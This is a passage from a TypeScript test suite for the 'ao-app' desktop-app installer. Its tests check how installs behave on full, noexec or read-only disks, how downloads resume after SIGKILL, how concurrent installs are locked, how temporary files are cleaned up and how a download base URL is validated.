    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=10m', 'tmpfs', disk]);
    try {
      const manifest = await manifestFor(
        server,
        image,
        'AppImage',
        'linux-x64',
        { unpackedSizeLimit: Math.ceil((6 << 20) * 1.1) },
        { path: '/appimage-once.AppImage' },
      );
      const root = join(disk, 'app');
      const result = await installApp({ manifest, target: 'linux-x64', root });
      const app = join(result.path, 'agent-orchestrator-linux-x64.AppImage');
      expect((await stat(app)).mode & 0o111).not.toBe(0);
      expect(await readdir(join(root, 'downloads'))).toEqual([]);
      expect(await verifyApp({ manifest, target: 'linux-x64', root })).toMatchObject({ ok: true });
    } finally {
      execFileSync('umount', [disk]);
    }
  });

  // A half-full laptop disk, `versions` linked to a bigger one (a layout install and remove support): the app is
  // unpacked there, only the download lands on the small disk. Both had been asked of the small one, and refused.
  it.skipIf(!canMountTmpfs())(
    "measures each disk for what goes on it: versions linked to a bigger disk installs where the folder's own disk holds only the download",
    async () => {
      const small = await tempDir('small-disk');
      const bigger = await tempDir('bigger-disk');
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=2m', 'tmpfs', small]);
      try {
        const appImage = join(await tempDir('linked-ai'), 'ao-desktop-linux-x64.AppImage');
        await writePadding(appImage, 1200 << 10);
        // 1.2 MB to download onto the 2 MB disk, up to 1.5 MB to unpack onto the other: 2.7 MB in all.
        const manifest = await manifestFor(server, appImage, 'AppImage', 'linux-x64', { unpackedSizeLimit: 1536 << 10 }, { path: '/linked-disk.AppImage' });
        const root = join(small, 'app');
        await mkdir(root);
        await symlink(bigger, join(root, 'versions'));
        const result = await installApp({ manifest, target: 'linux-x64', root });
        expect(result.status).toBe('installed');
        expect(await readdir(bigger)).toEqual(['0.10.0-linux-x64']);
        // The other way round, versions linked to the small disk, which cannot hold an app of up to 3 MB: refused before
        // downloading (the folder's own disk has room for both, and it had downloaded, then failed unpacking).
        const requests = server.requests.filter((r) => r.path === '/linked-disk.AppImage').length;
        const other = join(bigger, 'app');
        await mkdir(other);
        // (A folder of its own there: the tmpfs root is writable by all, which an app folder may not be.)
        await mkdir(join(small, 'ao-versions'));
        await symlink(join(small, 'ao-versions'), join(other, 'versions'));
        const larger = { ...manifest, targets: { 'linux-x64': { ...manifest.targets['linux-x64'], unpackedSizeLimit: 3 << 20 } } };
        await expect(installApp({ manifest: larger, target: 'linux-x64', root: other })).rejects.toMatchObject({
          code: 'ENOSPC',
          message: expect.stringContaining(`${join(other, 'versions')} has`),
        });
        expect(server.requests.filter((r) => r.path === '/linked-disk.AppImage')).toHaveLength(requests);
        // Both linked to the bigger disk, the folder itself on the small one: nothing lands on the small disk.
        const both = join(small, 'both');
        await mkdir(both);
        await mkdir(join(bigger, 'both-versions'));
        await mkdir(join(bigger, 'both-downloads'));
        await symlink(join(bigger, 'both-versions'), join(both, 'versions'));
        await symlink(join(bigger, 'both-downloads'), join(both, 'downloads'));
        expect(await installApp({ manifest: larger, target: 'linux-x64', root: both })).toMatchObject({ status: 'installed' });
      } finally {
        execFileSync('umount', [small]);
      }
    },
  );

  it.skipIf(!canMountTmpfs())('refuses before downloading into a folder mounted noexec, where the app could never start', async () => {
    const root = await tempDir('noexec');
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=16m,noexec', 'tmpfs', root]);
    try {
      const appImage = (await buildAppArtifact('appimage', join(await tempDir('ai'), 'ao-desktop-linux-x64.AppImage'), 64 << 10)).file;
      const manifest = await manifestFor(server, appImage, 'AppImage', 'linux-x64', { unpackedSizeLimit: 1 << 20 }, { path: '/noexec.AppImage' });
      // Installed there, the AppImage (and ao start's launch of it) fails with EACCES: that is no installed app.
      await expect(installApp({ manifest, target: 'linux-x64', root: join(root, 'app') })).rejects.toMatchObject({
        code: 'EAPPDISK',
        message: expect.stringContaining('noexec'),
      });
      expect(server.requests.filter((r) => r.path === '/noexec.AppImage')).toHaveLength(0);
    } finally {
      execFileSync('umount', [root]);
    }
  });

  // An intact install on a disk since mounted read-only and noexec: install (which cannot take the lock there) had said
  // "already installed", exit 0, and pointed ao start at an app the kernel will not run.
  it.skipIf(!canMountTmpfs())('install of an intact app on a disk since remounted ro,noexec refuses it as noexec (exit 1), not already installed', async () => {
    const mount = await tempDir('ro-noexec');
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=16m', 'tmpfs', mount]);
    try {
      const home = await tempDir('ro-noexec-home');
      const image = join(await tempDir('ro-noexec-img'), 'agent-orchestrator-linux-x64.AppImage');
      await buildAppArtifact('appimage', image, 64 << 10);
      const manifest = await writeManifest(await tempDir('m'), await manifestFor(server, image, 'AppImage', 'linux-x64', {}, { path: '/ro-noexec.AppImage' }));
      const args = ['install', '--manifest', manifest, '--target', 'linux-x64', '--dir', join(mount, 'app')];
      const install = runCli(args, { HOME: home });
      expect(await install.done, install.stderr).toBe(0);
      await rm(join(home, '.ao', 'app-state.json'));
      execFileSync('mount', ['-o', 'remount,ro,noexec', mount]);
      const again = runCli(args, { HOME: home });
      expect(await again.done, again.stdout).toBe(1);
      expect(again.stderr).toContain('mounted noexec');
      expect(existsSync(join(home, '.ao', 'app-state.json'))).toBe(false);
    } finally {
      execFileSync('umount', [mount]);
    }
  });

  it.skipIf(!canMountTmpfs())(
    'a disk with space left but no free inodes is ENOSPC while unpacking a zip or a tar.gz (not ENOENT, "check the folder is writable"), naming df -i',
    async () => {
      const cases = [
        { manifest: await macManifest(mac, '0.10.0', '/mac-inodes.zip'), target: 'darwin-arm64', file: 'ao-desktop-darwin-arm64.zip' },
        {
          manifest: await manifestFor(server, big, 'tar.gz', 'linux-x64', { unpackedSizeLimit: 16 << 20 }, { path: '/big-inodes.tar.gz' }),
          target: 'linux-x64',
          file: 'ao-desktop-linux-x64.tar.gz',
        },
      ];
      for (const { manifest, target, file } of cases) {
        const root = await tempDir('inodes');
        // Megabytes free, files not: room for the folders, the download and the lock, not for the app's entries.
        execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=32m,nr_inodes=14', 'tmpfs', root]);
        try {
          // The zip's folders are made with a recursive mkdir, which said ENOENT for the parent it could not create.
          await expect(installApp({ manifest, target, root: join(root, 'app') })).rejects.toMatchObject({
            code: 'ENOSPC',
            fix: expect.stringContaining('df -i'),
          });
          expect(existsSync(join(root, 'app', 'downloads', `${file}.partial`))).toBe(true);
        } finally {
          execFileSync('umount', [root]);
        }
      }
    },
  );

  it('checks the disk again after the download, keeping the verified bytes for the next run', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-nospace-later.zip');
    const { unpackedSizeLimit } = manifest.targets['darwin-arm64'];
    // Plenty of room before the download, 1000 bytes once it is done (something else filled the disk meanwhile).
    let downloaded = false;
    const freeSpace = async () => (downloaded ? 1000 : 1 << 30);
    const checkpoint = async (step: string) => void (downloaded ||= step === 'downloaded');
    await expect(installApp({ manifest, target: 'darwin-arm64', root, freeSpace, checkpoint })).rejects.toMatchObject({
      code: 'ENOSPC',
      what: 'not enough disk space to unpack the desktop app',
      why: expect.stringMatching(new RegExp(`1000 bytes free after the download; unpacking needs up to ${unpackedSizeLimit}`)),
      fix: expect.stringMatching(/free at least \d+ bytes there, then run ao-app install again/),
    });
    expect(existsSync(join(root, 'versions', '0.10.0-darwin-arm64'))).toBe(false);
    expect(await readdir(join(root, 'versions'))).toEqual([]);
    const requests = server.requests.filter((r) => r.path === '/mac-nospace-later.zip').length;
    const again = await installApp({ manifest, target: 'darwin-arm64', root });
    expect(again).toMatchObject({ status: 'installed', fetched: 0, resumedFrom: (await stat(mac)).size });
    expect(server.requests.filter((r) => r.path === '/mac-nospace-later.zip')).toHaveLength(requests);
  });

  it.skipIf(!canMountTmpfs())('a disk that fills during the download or the unpacking fails with ENOSPC, not a hang or exit 70', async () => {
    const root = await tempDir('tmpfs-full');
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=1m', 'tmpfs', root]);
    try {
      // The free-space probe is told there is room (another process fills the disk after it looked).
      const roomy = async () => 1 << 30;
      const bigManifest = await manifestFor(server, big, 'tar.gz', 'linux-x64');
      await expect(installApp({ manifest: bigManifest, target: 'linux-x64', root: join(root, 'a'), freeSpace: roomy })).rejects.toMatchObject({
        code: 'ENOSPC',
        what: expect.stringMatching(/cannot write the desktop app download/),
      });
      rmSync(join(root, 'a'), { recursive: true, force: true });
      // 700 KB zip fits; its unpacked 1.3 MB does not.
      const zip = await manifestFor(server, mac, 'zip', 'darwin-arm64');
      await expect(installApp({ manifest: zip, target: 'darwin-arm64', root: join(root, 'b'), freeSpace: roomy })).rejects.toMatchObject({
        code: 'ENOSPC',
        what: 'the disk filled up while unpacking the desktop app',
      });
      expect(existsSync(join(root, 'b', 'downloads', 'ao-desktop-darwin-arm64.zip.partial'))).toBe(true);
      expect((await readdir(join(root, 'b', 'versions'))).filter((n) => n.startsWith('.staging'))).toEqual([]);
    } finally {
      execFileSync('umount', [root]);
    }
  });

  it.skipIf(!canMountTmpfs())('checks a real disk again after the download (a 4 MB tmpfs filled meanwhile)', async () => {
    const root = await tempDir('tmpfs-later');
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=4m', 'tmpfs', root]);
    try {
      const manifest = await manifestFor(server, mac, 'zip', 'darwin-arm64', { unpackedSizeLimit: 2 << 20 });
      const filler = join(root, 'filler');
      const checkpoint = async (step: string) => {
        if (step === 'downloaded') await writeFile(filler, Buffer.alloc(2 << 20));
      };
      await expect(installApp({ manifest, target: 'darwin-arm64', root: join(root, 'app'), checkpoint })).rejects.toMatchObject({
        code: 'ENOSPC',
        what: 'not enough disk space to unpack the desktop app',
      });
      rmSync(filler);
      expect(await installApp({ manifest, target: 'darwin-arm64', root: join(root, 'app') })).toMatchObject({ status: 'installed', fetched: 0 });
    } finally {
      execFileSync('umount', [root]);
    }
  });

  it.skipIf(!canMountTmpfs())(
    "counts an earlier release's unfinished download as free space, since it is discarded anyway (a 4 MB tmpfs it fills most of), under this name or another",
    async () => {
      // Another name: the Intel Mac's download on a Mac moved to Apple silicon (Migration Assistant copies ~/.ao), or a
      // release that renamed its file. It had stayed in downloads/ for good, and counted against the disk.
      for (const [i, staleName] of [undefined, 'ao-desktop-darwin-x64.zip'].entries()) {
        const root = await tempDir('tmpfs-stale');
        execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=4m', 'tmpfs', root]);
        try {
          const manifest = await manifestFor(server, mac, 'zip', 'darwin-arm64', { unpackedSizeLimit: 2 << 20 }, { path: `/mac-stale-${i}.zip` });
          const { file } = manifest.targets['darwin-arm64'];
          // An interrupted download of the release before (another pin): 2.5 of its 3 MB.
          const stale = join(root, 'app', 'downloads', staleName ?? file);
          await writePadding(partialPath(stale), 5 << 19);
          await writeFile(
            sidecarPath(stale),
            JSON.stringify({ url: `${server.url}/mac-stale.zip`, size: 3 << 20, integrity: `sha512-${Buffer.alloc(64, 1).toString('base64')}` }),
          );
          expect(await installApp({ manifest, target: 'darwin-arm64', root: join(root, 'app') }), staleName).toMatchObject({
            status: 'installed',
            resumedFrom: 0,
          });
          expect(await readdir(join(root, 'app', 'downloads'))).toEqual([]);
        } finally {
          execFileSync('umount', [root]);
        }
      }
    },
  );

  it('resumes after the command is SIGKILLed mid-download instead of starting over', async () => {
    const root = await tempDir('root');
    const dir = await tempDir('m');
    const manifest = await manifestFor(server, big, 'tar.gz');
    const path = `/${manifest.targets['linux-x64'].file}`;
    const size = manifest.targets['linux-x64'].size;
    const file = await writeManifest(dir, manifest);
    server.throttle(4 << 20);
    try {
      const first = runCli(['install', '--quiet', '--manifest', file, '--target', 'linux-x64', '--dir', root]);
      const partial = partialPath(join(root, 'downloads', manifest.targets['linux-x64'].file));
      await until(async () => ((await stat(partial).catch(() => undefined))?.size ?? 0) > size * 0.4);
      first.child.kill('SIGKILL');
      await first.done;
    } finally {
      server.throttle(0);
    }
    const kept = (await stat(partialPath(join(root, 'downloads', manifest.targets['linux-x64'].file)))).size;
    expect(kept).toBeGreaterThan(size * 0.4);
    const sentBefore = server.bytesSent(path);
    const second = runCli(['install', '--json', '--manifest', file, '--target', 'linux-x64', '--dir', root]);
    expect(await second.done).toBe(0);
    expect(server.bytesSent(path) - sentBefore).toBe(size - kept);
    expect(second.stdout).toMatch(new RegExp(`"resumedFrom":${kept}`));
    expect(await appPath(root)).toBe(join(root, 'versions', '0.10.0-linux-x64'));
  });

  it('lets two fetchers run at once: one downloads, the other waits and finds it installed', async () => {
    const root = await tempDir('root');
    const dir = await tempDir('m');
    const manifest = await manifestFor(server, mac, 'zip', 'darwin-arm64');
    const file = await writeManifest(dir, manifest);
    const path = `/${manifest.targets['darwin-arm64'].file}`;
    const sentBefore = server.bytesSent(path);
    server.throttle(1 << 20);
    let runs: Run[];
    try {
      runs = [0, 1].map(() => runCli(['install', '--json', '--manifest', file, '--target', 'darwin-arm64', '--dir', root]));
      expect(await Promise.all(runs.map((r) => r.done))).toEqual([0, 0]);
    } finally {
      server.throttle(0);
    }
    const statuses = runs.map((r) => JSON.parse(r.stdout.trim().split('\n').at(-1)!).status).sort();
    expect(statuses).toEqual(['already-installed', 'installed']);
    expect(server.bytesSent(path) - sentBefore).toBe(manifest.targets['darwin-arm64'].size);
  });

  it('says it is waiting for another install (which pid, which lock) instead of sitting silent, then carries on when that one is killed', async () => {
    const root = await tempDir('root');
    const manifest = await macManifest(mac, '0.10.0', '/mac-lock-wait.zip');
    const file = await writeManifest(await tempDir('m'), manifest);
    const args = ['install', '--manifest', file, '--target', 'darwin-arm64', '--dir', root];
    const first = runCli([...args, '--quiet'], { AO_APP_CHECKPOINT: 'downloaded' });
    const others: Run[] = [];
    try {
      await until(() => first.stderr.includes('parked at downloaded'));
      const json = runCli([...args, '--json']);
      const text = runCli(args);
      const verify = runCli(['verify', '--manifest', file, '--target', 'darwin-arm64', '--dir', root]);
      others.push(json, text, verify);
      // Up to 15 minutes (a minute for verify) of nothing on the screen looked like a hang.
      await until(() => json.stdout.includes('"event":"waiting"') && text.stderr.includes('waiting for') && verify.stderr.includes('waiting for'));
      const waiting = JSON.parse(json.stdout.split('\n').find((l) => l.includes('"event":"waiting"'))!);
      expect(waiting.message).toContain(`pid ${first.child.pid}`);
      expect(waiting.message).toContain(join(root, '.lock'));
      expect(text.stderr).toContain(`pid ${first.child.pid}`);
      first.child.kill('SIGKILL');
      expect(await first.done).toBeNull();
      expect(await Promise.all([json.done, text.done])).toEqual([0, 0]);
      expect(await appPath(root)).toBe(join(root, 'versions', '0.10.0-darwin-arm64'));
      await verify.done;
    } finally {
      for (const run of [first, ...others]) run.child.kill('SIGKILL');
    }
  });

  // prlimit is util-linux: the Linux runners and this machine have it, macOS and Windows do not.
  it.runIf(process.platform === 'linux')(
    'a file-system error while downloading ends at once with its own fix (exit 1), never as a network retry, and keeps the bytes',
    async () => {
      const root = await tempDir('root');
      const manifest = await manifestFor(server, big, 'tar.gz', 'linux-x64');
      const file = await writeManifest(await tempDir('m'), manifest);
      const path = `/${manifest.targets['linux-x64']!.file}`;
      const before = server.requests.filter((r) => r.path === path).length;
      // The 8 MiB download outgrows a 1 MB file-size limit: EFBIG on the partial's write.
      const limited = runCli(['install', '--quiet', '--manifest', file, '--target', 'linux-x64', '--dir', root], {}, ['prlimit', '--fsize=1000000:1000000']);
      expect(await limited.done).toBe(1);
      expect(limited.stderr).toContain('cannot write the desktop app download');
      expect(limited.stderr).toContain('EFBIG');
      expect(limited.stderr).toContain('ulimit -f');
      expect(limited.stderr).not.toContain('network');
      expect(server.requests.filter((r) => r.path === path).length - before).toBe(1);
      expect((await stat(join(root, 'downloads', `${manifest.targets['linux-x64']!.file}.partial`))).size).toBeGreaterThan(0);
    },
  );

  it.runIf(process.platform === 'linux')(
    'a file-system error writing the completion marker removes the unpacked staging folder, keeping the verified download',
    async () => {
      const root = await tempDir('root');
      // 1,200 empty files: a ~20 KB download and empty files, but a ~160 KB marker (each file's path and sha256).
      const entries = Array.from({ length: 1200 }, (_, i) => ({ path: `ao-desktop/node_modules/pkg-${i % 97}/file-${i}.js`, data: '' }));
      const artifact = join(await tempDir('many'), 'ao-desktop-linux-x64.tar.gz');
      await writeFile(artifact, rawTarGz(entries));
      const manifest = await manifestFor(server, artifact, 'tar.gz', 'linux-x64', {}, { path: '/marker-efbig.tar.gz' });
      const file = await writeManifest(await tempDir('m'), manifest);
      const limited = runCli(['install', '--quiet', '--manifest', file, '--target', 'linux-x64', '--dir', root], {}, ['prlimit', '--fsize=100000:100000']);
      expect(await limited.done).toBe(1);
      expect(limited.stderr).toContain('EFBIG');
      // 1,200 unpacked files (3,000 and 254 MB for the real app) are not left on a disk that just failed a write.
      expect(await readdir(join(root, 'versions'))).toEqual([]);
      expect(existsSync(join(root, 'downloads', 'ao-desktop-linux-x64.tar.gz.partial'))).toBe(true);
    },
  );

  for (const format of ['zip', 'tar.gz'] as const) {
    it.runIf(process.platform === 'linux')(
      `a file-system error while unpacking a ${format} is reported as itself (exit 1), never as an unsafe archive, and keeps the verified download`,
      async () => {
        const root = await tempDir('root');
        // The zip's app.bin is 512 KiB, the tar.gz's padding 8 MiB: both over the file-size limit below.
        const [artifact, target] = format === 'zip' ? [mac, 'darwin-arm64'] : [big, 'linux-x64'];
        const manifest = await manifestFor(server, artifact, format, target);
        const file = await writeManifest(await tempDir('m'), manifest);
        const artifactFile = manifest.targets[target]!.file;
        const path = `/${artifactFile}`;
        const args = ['install', '--quiet', '--manifest', file, '--target', target, '--dir', root];
        // The download completes and is verified; the run is killed before unpacking.
        const parked = runCli(args, { AO_APP_CHECKPOINT: 'downloaded' });
        await until(() => parked.stderr.includes('parked at downloaded'));
        parked.child.kill('SIGKILL');
        await parked.done;
        const requests = server.requests.filter((r) => r.path === path).length;
        // A file-size limit below the largest file: the unpack's write fails with EFBIG, a real file-system error.
        const limited = runCli(args, {}, ['prlimit', '--fsize=300000:300000']);
        expect(await limited.done).toBe(1);
        expect(limited.stderr).toContain('cannot write the desktop app');
        expect(limited.stderr).toContain('EFBIG');
        expect(limited.stderr).toContain('the verified download is kept');
        expect(limited.stderr).toContain('ulimit -f');
        expect(existsSync(join(root, 'downloads', `${artifactFile}.partial`))).toBe(true);
        expect(await readdir(join(root, 'versions'))).toEqual([]);
        const again = runCli(args);
        expect(await again.done).toBe(0);
        expect(await appPath(root)).toBe(join(root, 'versions', `0.10.0-${target}`));
        expect(server.requests.filter((r) => r.path === path)).toHaveLength(requests);
      },
    );
  }

  for (const step of ['extracted', 'committed'] as const) {
    it(`keeps the previous version launchable when killed at "${step}", and finishes on the next run`, async () => {
      const root = await tempDir('root');
      const dir = await tempDir('m');
      const v1 = await macManifest(mac, '0.9.0', `/mac-v1-${step}.zip`);
      await installApp({ manifest: v1, target: 'darwin-arm64', root });
      const v2 = await macManifest(macV2, '0.10.0', `/mac-v2-${step}.zip`);
      const file = await writeManifest(dir, v2);
      const run = runCli(['install', '--quiet', '--manifest', file, '--target', 'darwin-arm64', '--dir', root], { AO_APP_CHECKPOINT: step });
      await until(() => run.stderr.includes(`parked at ${step}`));
      await new Promise((r) => setTimeout(r, 200));
      expect(run.child.exitCode).toBeNull();
      run.child.kill('SIGKILL');
      expect(await run.done).toBeNull();
      const launchable = await appPath(root);
      expect(launchable).toBe(join(root, 'versions', '0.9.0-darwin-arm64'));
      expect((await stat(join(launchable!, 'Agent Orchestrator.app/Contents/MacOS/ao'))).mode & 0o111).not.toBe(0);
      expect(await verifyApp({ manifest: v1, target: 'darwin-arm64', root })).toMatchObject({ ok: true });

      const again = runCli(['install', '--quiet', '--manifest', file, '--target', 'darwin-arm64', '--dir', root]);
      expect(await again.done).toBe(0);
      expect(await appPath(root)).toBe(join(root, 'versions', '0.10.0-darwin-arm64'));
      expect(await readdir(join(root, 'versions'))).toEqual(['0.10.0-darwin-arm64']);
      expect((await lstat(join(root, 'current'))).isSymbolicLink()).toBe(true);
      // The verified download (182 MB for the real app) and its sidecar go once the version is installed.
      expect(await readdir(join(root, 'downloads'))).toEqual([]);
    });
  }

  // A Ctrl-C while unpacking had left the unpacked copy (the whole app, 254 MB for the real one) in versions/.staging-*,
  // hidden, until the next install or remove: on a half-full disk, space the user thought the interrupted install gave back.
  // SIGHUP: the terminal closing, with the output on a terminal or a pipe (as here); with it on files, it is ignored.
  for (const signal of ['SIGINT', 'SIGTERM', 'SIGHUP'] as const) {
    it(`ended by ${signal} while unpacking, leaves no unpacked copy behind, only the verified download, and ends by that signal`, async () => {
      const root = await tempDir('root');
      await installApp({ manifest: await macManifest(mac, '0.9.0', `/mac-v1-${signal}.zip`), target: 'darwin-arm64', root });
      const file = await writeManifest(await tempDir('m'), await macManifest(macV2, '0.10.0', `/mac-v2-${signal}.zip`));
      // Parked inside the unpack (common/zip-extract.ts): its files written, its links and completion marker not yet.
      const run = runCli(['install', '--quiet', '--manifest', file, '--target', 'darwin-arm64', '--dir', root], { AO_APP_CHECKPOINT: 'unpacking' });
      await until(() => run.stderr.includes('parked at unpacking'));
      const staging = (await readdir(join(root, 'versions'))).find((name) => name.startsWith('.staging-'));
      expect(existsSync(join(root, 'versions', staging!, 'Agent Orchestrator.app'))).toBe(true);
      expect(existsSync(join(root, 'versions', staging!, '.ao-app-complete.json'))).toBe(false);
      run.child.kill(signal);
      expect(await run.done).toBeNull();
      expect(run.child.signalCode).toBe(signal);
      expect(await readdir(join(root, 'versions'))).toEqual(['0.9.0-darwin-arm64']);
      expect(await readdir(join(root, 'downloads'))).toEqual([`${basename(macV2)}.partial`, `${basename(macV2)}.partial.json`]);
    });
  }

  it('an AppImage killed before its download was deleted (the two names share the file): a later reinstall never writes through the installed app', async () => {
    const image = join(await tempDir('shared-img'), 'agent-orchestrator-linux-x64.AppImage');
    await buildAppArtifact('appimage', image, 1 << 20);
    const path = '/shared-inode.AppImage';
    // With a mirror: bytes that fail their hash drop only the URL they came from, and the download starts over.
    const mirror = '/shared-inode-mirror.AppImage';
    await server.serve(mirror, image);
    const manifest = await manifestFor(server, image, 'AppImage', 'linux-x64', { urls: [`${server.url}${path}`, `${server.url}${mirror}`] }, { path });
    const root = await tempDir('root');
    const args = ['install', '--quiet', '--manifest', await writeManifest(await tempDir('m'), manifest), '--target', 'linux-x64', '--dir', root];
    const run = runCli(args, { AO_APP_CHECKPOINT: 'committed' });
    await until(() => run.stderr.includes('parked at committed'));
    run.child.kill('SIGKILL');
    expect(await run.done).toBeNull();
    const installed = join(root, 'versions', '0.10.0-linux-x64', 'agent-orchestrator-linux-x64.AppImage');
    expect((await stat(installed)).nlink).toBe(2);
    // The user's app changed in place (same size): verify fails, so the next install downloads it again, into the
    // download name still linked to it. The server then refuses (a mirror down): the run fails, the app stays as it was.
    const bytes = await readFile(installed);
    bytes[100]! ^= 0xff;
    await writeFile(installed, bytes);
    for (const p of [path, mirror]) server.fault(p, ...Array.from({ length: 20 }, () => ({ kind: 'status', status: 503 }) as const));
    const failed = runCli(args, { AO_APP_DEADLINE_MS: '1000' });
    expect(await failed.done, failed.stderr + failed.stdout).toBe(1);
    expect(await readFile(installed)).toEqual(bytes);
  });

  it("clears the temporary files a run killed mid-step left (current's next link or current.json, the remembered keys, the exec probe, the download's sidecar), on install and on remove", async () => {
    const root = await tempDir('root');
    await installApp({ manifest: await macManifest(mac, '0.9.0', '/mac-leftovers-1.zip'), target: 'darwin-arm64', root });
    // What a SIGKILL between creating `current`'s new link and its rename, or during the noexec probe, leaves:
    // names from common/fs-atomic.ts tempSibling, for a run that is gone (the lock says no other run is live).
    await symlink(join('versions', '0.9.0-darwin-arm64'), join(root, '.current.link-99999-lz1abc'));
    await writeFile(join(root, 'versions', '..exec-probe.probe-99999-lz1abc'), '');
    // Windows' pointer and the remembered keys, written atomically through a temporary sibling too.
    await writeFile(join(root, '.current.json.tmp-99999-lz1abc'), '{"ver');
    // The remembered keys' with this run's own pid: a container's fresh pid namespace hands the rerun the killed run's pid.
    await writeFile(join(root, `.trusted-keys.json.tmp-${process.pid}-lz1abc`), '{"sch');
    // The resume sidecar, rewritten atomically at every attempt of the download (each resume on a flaky network).
    await writeFile(join(root, 'downloads', '.mac-leftovers-2.zip.partial.json.tmp-99999-lz1abc'), '{"url');
    await installApp({ manifest: await macManifest(macV2, '0.10.0', '/mac-leftovers-2.zip'), target: 'darwin-arm64', root });
    expect((await readdir(root)).filter((f) => f.startsWith('.'))).toEqual([]);
    expect(await readdir(join(root, 'downloads'))).toEqual([]);
    expect(await readdir(join(root, 'versions'))).toEqual(['0.10.0-darwin-arm64']);
    // And remove leaves none either.
    await symlink(join('versions', '0.10.0-darwin-arm64'), join(root, '.current.link-99999-lz1abd'));
    await writeFile(join(root, 'versions', '..exec-probe.probe-99999-lz1abd'), '');
    await removeApp(root);
    expect((await readdir(root)).filter((f) => f.startsWith('.'))).toEqual([]);
    expect(await readdir(join(root, 'versions'))).toEqual([]);
  });

  it('going back to the current version after an upgrade killed at "committed" deletes the upgrade it left', async () => {
    const root = await tempDir('root');
    const dir = await tempDir('m');
    const v1 = await macManifest(mac, '0.9.0', '/mac-v1-back.zip');
    await installApp({ manifest: v1, target: 'darwin-arm64', root });
    const v2 = await macManifest(macV2, '0.10.0', '/mac-v2-back.zip');
    const run = runCli(['install', '--quiet', '--manifest', await writeManifest(dir, v2), '--target', 'darwin-arm64', '--dir', root], {
      AO_APP_CHECKPOINT: 'committed',
    });
    await until(() => run.stderr.includes('parked at committed'));
    run.child.kill('SIGKILL');
    expect(await run.done).toBeNull();
    // The user stays on (reinstalls) 0.9.0: it is current and intact, so nothing is fetched, and the committed but never
    // current 0.10.0 (the whole unpacked app) must not stay on the disk for good.
    const back = runCli(['install', '--quiet', '--manifest', await writeManifest(await tempDir('m1'), v1), '--target', 'darwin-arm64', '--dir', root]);
    expect(await back.done).toBe(0);
    expect(await appPath(root)).toBe(join(root, 'versions', '0.9.0-darwin-arm64'));
    expect(await readdir(join(root, 'versions'))).toEqual(['0.9.0-darwin-arm64']);
  });

  it('fetches from AO_APP_BASE_URL when set, reporting --json progress events', async () => {
    const root = await tempDir('root');
    const dir = await tempDir('m');
    const manifest = await macManifest(mac, '0.10.0', '/elsewhere/ao-desktop-darwin-arm64.zip');
    manifest.targets['darwin-arm64'].urls = ['https://downloads.invalid/ao-desktop-darwin-arm64.zip'];
    const file = await writeManifest(dir, manifest);
    const run = runCli(['install', '--json', '--manifest', file, '--target', 'darwin-arm64', '--dir', root], { AO_APP_BASE_URL: `${server.url}/elsewhere/` });
    expect(await run.done).toBe(0);
    const events = run.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(events[0]).toMatchObject({ event: 'start', total: manifest.targets['darwin-arm64'].size });
    expect(events.some((e) => e.event === 'progress')).toBe(true);
    expect(events.at(-1)).toMatchObject({ event: 'result', status: 'installed', version: '0.10.0' });
  });

  it('keeps the query of an AO_APP_BASE_URL (a private mirror signed with ?token=), putting the file name in its path', async () => {
    const manifest = await macManifest(mac, '0.10.0', '/signed/ao-desktop-darwin-arm64.zip');
    manifest.targets['darwin-arm64'].urls = ['https://downloads.invalid/ao-desktop-darwin-arm64.zip'];
    const before = server.requests.length;
    const saved = process.env.AO_APP_BASE_URL;
    process.env.AO_APP_BASE_URL = `${server.url}/signed/?token=abc`;
    try {
      expect(await installApp({ manifest, target: 'darwin-arm64', root: await tempDir('root') })).toMatchObject({ status: 'installed' });
    } finally {
      if (saved === undefined) delete process.env.AO_APP_BASE_URL;
      else process.env.AO_APP_BASE_URL = saved;
    }
    // It asked for <base path>/<file>; the file name had gone into the query (?token=abc/ao-desktop-...), a 404.
    expect(server.requests.slice(before).map((r) => r.path)).toEqual(['/signed/ao-desktop-darwin-arm64.zip']);
  });

  // `ao update` calls installApp itself: the variable is checked where it is applied, not only by the ao-app command.
  it('refuses an AO_APP_BASE_URL that is not an http(s) URL for a library caller too, before anything is fetched', async () => {
    const manifest = await macManifest(mac, '0.10.0', '/mac-bad-base.zip');
    const before = server.requests.length;
    process.env.AO_APP_BASE_URL = 'ftp://127.0.0.1/ao/';
    try {
      await expect(installApp({ manifest, target: 'darwin-arm64', root: await tempDir('root') })).rejects.toMatchObject({
        code: 'EUSAGE',
        what: 'AO_APP_BASE_URL=ftp://127.0.0.1/ao/ is not an http(s) URL',
      });
    } finally {
      delete process.env.AO_APP_BASE_URL;
    }
    expect(server.requests.length).toBe(before);
  });

  it('verify names a fix that, followed as printed, gives back an intact app after a file was changed', async () => {
    const root = await tempDir('root');
    const file = await writeManifest(await tempDir('m'), await macManifest(mac, '0.10.0', '/mac-cli-fix.zip'));
    const flags = ['--manifest', file, '--target', 'darwin-arm64', '--dir', root];
    expect(await runCli(['install', '--quiet', ...flags]).done).toBe(0);
    const plist = join((await appPath(root))!, 'Agent Orchestrator.app/Contents/Info.plist');
    await writeFile(plist, (await readFile(plist, 'utf8')).replace('<string>ao</string>', '<string>xx</string>'));
    const damaged = runCli(['verify', ...flags]);
    expect(await damaged.done).toBe(1);
    const fix = /^fix: (.*)$/m.exec(damaged.stdout)?.[1] ?? '';
    // Every `ao-app <verb>` the fix names, in its order, run as the user would (same manifest and folder).
    const verbs = [...fix.matchAll(/ao-app (\w+)/g)].map((m) => m[1]!);
    expect(verbs.length, damaged.stdout).toBeGreaterThan(0);
    for (const verb of verbs) expect(await runCli([verb, '--quiet', ...(verb === 'remove' ? ['--dir', root] : flags)]).done).toBe(0);
    const again = runCli(['verify', ...flags]);
    expect(await again.done, again.stdout).toBe(0);
  });

  it('answers where/verify/remove from the command', async () => {
    const root = await tempDir('root');
    const dir = await tempDir('m');
    const manifest = await macManifest(mac, '0.10.0', '/mac-cli.zip');
    const file = await writeManifest(dir, manifest);
    const where = runCli(['where', '--dir', root]);
    expect(await where.done).toBe(1);
    expect(where.stdout).toMatch(/not installed/);
